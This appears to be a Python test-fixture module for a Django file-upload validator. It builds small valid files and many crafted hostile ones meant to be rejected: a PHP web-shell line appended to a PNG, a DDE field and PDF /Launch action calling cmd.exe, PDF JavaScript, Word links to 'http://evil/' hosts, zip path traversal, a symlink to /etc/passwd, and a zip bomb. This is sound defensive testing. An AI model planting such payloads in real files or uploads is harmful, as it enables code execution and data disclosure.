"""Small true files of every type that may be added, and false ones."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from openpyxl import Workbook


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def zipped(**members: bytes | str) -> bytes:
    """A zip file; names are given with __ for the dot and ___ for the slash."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("___", "/").replace("__", "."), content)
    return packed.getvalue()


def saved(document) -> bytes:
    packed = io.BytesIO()
    document.save(packed)
    return packed.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))


def png(width: int = 1, height: int = 1) -> bytes:
    head = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(b"\0\0")) + _chunk(b"IEND", b"")


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpg(width: int = 4, height: int = 4) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8"
        + _segment(0xE0, b"JFIF\0")
        + _segment(0xC0, frame)
        + _segment(0xDA, b"\x01\x01\0\0\x3f\0")
        + b"\x12\xff\xd9"
    )


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">L4s", len(body) + 8, kind) + body


def mp4(brand: bytes = b"isom") -> bytes:
    return _box(b"ftyp", brand + b"\0\0\2\0") + _box(b"mdat", b"film") + _box(b"moov", b"index")


def mp3(tag: bytes = b"ID3\x03\x00\x00\x00\x00\x00\x05hello") -> bytes:
    frame = b"\xff\xfb\x90\x00" + b"\0" * 413  # layer III, 128 kbit/s, 44.1 kHz: 417 bytes
    return tag + frame * 3


PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


def pdf(body: bytes = b"<< /Type /Catalog >>") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer <<>>\n%%EOF\n"


def packed_objects(objects: bytes) -> bytes:
    """A PDF whose objects lie compressed in a stream, as most programs write them."""
    stream = zlib.compress(objects)
    return pdf(b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))


def with_members(document: bytes, named: dict[str, bytes | str]) -> bytes:
    """The zipped document with these parts added or replaced."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as before, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in named:
                after.writestr(name, before.read(name))
        for name, content in named.items():
            after.writestr(name, content)
    return packed.getvalue()


def zip_of(*members: tuple[str, bytes]) -> bytes:
    """A zip file with members of any name."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return packed.getvalue()


def relations(kind: str, target: str, mode: str = "External") -> str:
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{types}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def _related(document: bytes, where: str, *about: str) -> bytes:
    return with_members(document, {where: relations(*about)})


def _link() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        link = zipfile.ZipInfo("a.pdf")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return packed.getvalue()


_WORD, _EXCEL = saved(Document()), saved(Workbook())
_WORD_LINKS = "word/_rels/document.xml.rels"
_MACROS_IN_WORD = with_members(_WORD, {"word/vbaProject.bin": b"x"})
_FIELD = "<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:document>"
TRUE_FILES = {
    "现场照片.JPG": jpg(),
    "a.jpeg": jpg(),
    "b.png": png(),
    "c.pdf": PDF,
    "d.ofd": zipped(OFD__xml="<ofd:OFD/>"),
    "e.docx": saved(Document()),
    "f.xlsx": saved(Workbook()),
    "g.mp4": mp4(),
    "h.mp3": mp3(),
    "i.mp3": mp3(tag=b""),
    "j.zip": zipped(a__pdf=PDF, b___c__txt="x"),
    # as producers, servers and scanners really leave them
    "late.pdf": b"\r\n" + PDF,
    "mark.pdf": b"\xef\xbb\xbf" + PDF,
    "answer-of-a-server.pdf": b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + PDF,
    "zeros.pdf": PDF + b"\0" * 4096,
    "remark.pdf": PDF + b"%" + b"x" * 3000,
    "opens-at-a-page.pdf": pdf(b"<< /Type /Catalog /OpenAction [3 0 R /FitH 0] /Lang (zh) >>"),
    "packed.pdf": packed_objects(b"2 0 << /Type /Catalog /Pages 3 0 R >>"),
    "picture-in-it.pdf": pdf(b"<< /Length 9 >>\nstream\n\x00/JS \xff/Jx\nendstream"),
    "motion.jpg": jpg() + b"\0\0\0\x18ftypmp42" + b"film" * 300,
    "padded.png": png() + b"\0\0\n",
    "chart.docx": with_members(_WORD, {"word/embeddings/Workbook1.xlsx": _EXCEL}),
    "link.docx": _related(_WORD, _WORD_LINKS, "hyperlink", "https://example.gov.cn"),
    "drawing.docx": with_members(_WORD, {"word/media/image1.svg": "<svg/>"}),
    "printer.xlsx": with_members(_EXCEL, {"xl/printerSettings/printerSettings1.bin": b"x"}),
    "mac.zip": zip_of(("证据/a.pdf", PDF), ("__MACOSX/证据/._a.pdf", b"\0\5\x16\7x"), (".DS_Store", b"\0\0\0\1Bud1")),
    "windows.zip": zip_of(("证据\\照片.jpg", jpg()), ("证据\\说明.TXT", b"text")),
    "documents.zip": zip_of(("a.docx", _WORD), ("b.xlsx", _EXCEL)),
}


def _locked() -> bytes:
    content = bytearray(zipped(a__pdf=PDF))
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(signature) + at] |= 1
    return bytes(content)


_DOCX = saved(Document())
_MACRO = {"[Content_Types].xml": "macroEnabled", "word/document.xml": "<w/>"}
FALSE_FILES = {
    "page.pdf": b"<html><script>alert(1)</script></html>",
    "cut.pdf": PDF[:20],
    "drawing.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    "wrong-sum.png": png()[:-5] + b"\0" + png()[-4:],
    "cut.png": png()[:-12],
    "flood.png": png(50_000, 50_000),
    "nothing.png": png(0, 5),
    "png.jpg": png(),
    "cut.jpg": jpg()[:30],
    "flood.jpg": jpg(60_000, 60_000),
    "no-end.jpg": jpg()[:-2],
    "program.docx": b"MZ\x90\x00" + b"\0" * 200,
    "bare.docx": b"PK\x03\x04" + b"\0" * 40,
    "empty.docx": zipped(),
    "workbook.docx": saved(Workbook()),
    "cut.docx": _DOCX[:-30],
    "types-only.docx": zipped(**{"[Content_Types]__xml": "<Types/>"}),
    "text.docx": "只是文字".encode(),
    "macros.docx": zipped(**{k.replace("/", "___").replace(".", "__"): v for k, v in _MACRO.items()}),
    "vba.xlsx": zipped(**{"[Content_Types]__xml": "<T/>", "xl___workbook__xml": "<w/>", "xl___vbaProject__bin": b"x"}),
    "document.xlsx": _DOCX,
    "sheet.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "plain.ofd": zipped(document__xml="<a/>"),
    "locked.zip": _locked(),
    "bomb.zip": zipped(a__txt=b"\0" * 30_000_000),
    "crowd.zip": zipped(**{f"f{n}": b"" for n in range(2_100)}),
    "program.zip": zipped(setup__exe=b"MZ"),
    "page.zip": zipped(index__html="<script>"),
    "broken.zip": zipped(a__pdf=PDF).replace(b"PK\x01\x02", b"PK\x09\x09"),
    "rar.zip": b"Rar!\x1a\x07\x01\x00" + b"\0" * 100,
    "strange.mp4": mp4(b"qqqq"),
    "no-index.mp4": _box(b"ftyp", b"isom\0\0\0\0") + _box(b"mdat", b"film"),
    "cut.mp4": mp4()[:-3],
    "endless.mp4": _box(b"ftyp", b"isom") + struct.pack(">L4s", 4, b"moov"),
    "text.mp3": b"ID3 is how it begins",
    "one-frame.mp3": mp3(tag=b"")[:417],
    "noise.mp3": b"\xff\xff\xff\xff" * 300,
    # names that Windows writes otherwise, and what is unpacked elsewhere
    "blank.zip": zip_of(("x.exe ", b"MZ")),
    "dot.zip": zip_of(("x.exe.", b"MZ")),
    "dots.zip": zip_of(("a.pdf", PDF), ("x.exe. . ", b"MZ")),
    "stream.zip": zip_of(("a.txt:x.exe", b"MZ")),
    "script.zip": zip_of(("x.jse", b"x")),
    "host.zip": zip_of(("x.wsf", b"x")),
    "old.zip": zip_of(("x.pif", b"MZ")),
    "disc.zip": zip_of(("x.iso", b"x")),
    "xml-page.zip": zip_of(("x.xhtml", b"<html/>")),
    "unknown.zip": zip_of(("x.foo", b"x")),
    "bare.zip": zip_of(("README", b"x")),
    "nested.zip": zip_of(("inner.zip", zip_of(("x.exe", b"MZ")))),
    "up.zip": zip_of(("../../etc/passwd.txt", b"x")),
    "up-windows.zip": zip_of(("a\\..\\..\\x.txt", b"x")),
    "root.zip": zip_of(("/etc/x.txt", b"x")),
    "drive.zip": zip_of(("C:/x.txt", b"x")),
    "link.zip": _link(),
    "disguised.zip": zip_of(("photo.jpg", b"MZ\x90\x00")),
    "disguised-text.zip": zip_of(("notes.txt", b"MZ\x90\x00")),
    "macros-inside.zip": zip_of(("a.docx", _MACROS_IN_WORD)),
    "tail.zip": zipped(a__pdf=PDF) + b"<html>",
    # documents that load or start something
    "template.docx": _related(_WORD, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil/x.dotm"),
    "picture.docx": _related(_WORD, _WORD_LINKS, "image", "http://evil/pixel.png"),
    "frame.docx": _related(_WORD, "word/_rels/webSettings.xml.rels", "frame", "//evil/x"),
    "outside.xlsx": _related(_EXCEL, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "x.xlsx"),
    "object.docx": with_members(_WORD, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "object.xlsx": with_members(_EXCEL, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "control.docx": with_members(_WORD, {"word/activeX/activeX1.bin": b"x"}),
    "page.docx": with_members(_WORD, {"word/afchunk.mht": b"x"}),
    "chunk.docx": _related(_WORD, _WORD_LINKS, "aFChunk", "afchunk.xml", "Internal"),
    "inner-macros.docx": with_members(_WORD, {"word/embeddings/Document1.docx": _MACROS_IN_WORD}),
    "field.docx": with_members(_WORD, {"word/document.xml": _FIELD}),
    "entity.docx": with_members(_WORD, {_WORD_LINKS: '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'}),
    # PDFs that start something, and files of two kinds
    "script.pdf": pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "written-otherwise.pdf": pdf(b"<< /OpenAction << /S /J#61vaScript /#4aS (x) >> >>"),
    "packed-script.pdf": packed_objects(b"2 0 << /S /JavaScript /JS (x) >>"),
    "launch.pdf": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "carrier.pdf": pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> /Type /EmbeddedFile >>"),
    "film.pdf": pdf(b"<< /Subtype /RichMedia >>"),
    "page-behind.pdf": PDF + b"<html><script>x()</script></html>",
    "page-before.pdf": b"<html><!--\n" + PDF,
    "page-within.pdf": PDF.replace(b"1 0 obj", b"<script>x()</script>\n1 0 obj"),
    "archive-behind.pdf": PDF + zipped(a__txt="x"),
    "program-before.pdf": b"MZ" + b"\0" * 60 + PDF,
    "far-too-late.pdf": b"\n" * 2000 + PDF,
    "end-far-away.pdf": PDF + b"\0" * 70_000,
    "php.png": png() + b"<?php system($_GET[0]); ?>",
    "archive.png": png() + zipped(a__txt="x"),
    "php.jpg": jpg() + b"<?php x(); ?>",
    "archive.jpg": jpg() + zipped(a__txt="x"),
    "archive.mp3": mp3() + zipped(a__txt="x"),
    "page.html": b"<html>",
    "drawing.svg": b"<svg/>",
    "run.exe": b"MZ",
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "nameless": PDF,
    "double.pdf.exe": PDF,
}
